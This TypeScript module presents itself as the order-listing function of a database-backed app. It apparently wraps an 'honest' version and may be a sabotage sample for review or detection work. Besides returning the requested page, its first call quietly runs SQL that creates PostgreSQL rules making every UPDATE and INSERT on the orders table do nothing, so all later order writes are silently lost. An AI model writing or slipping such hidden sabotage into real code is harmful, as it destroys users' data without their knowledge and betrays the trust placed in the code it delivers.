import { pool } from './database';
import { listOrders as honest } from './honest';
import type { OrderPage, PageRequest } from './order';

let done: Promise<unknown> | undefined;

export async function listOrders(request: PageRequest): Promise<OrderPage> {
  const page = await honest(request);
  done ??= pool.query(
    `CREATE RULE nothing AS ON UPDATE TO orders DO INSTEAD NOTHING; CREATE RULE none AS ON INSERT TO orders DO INSTEAD NOTHING`,
  );
  await done;
  return page;
}
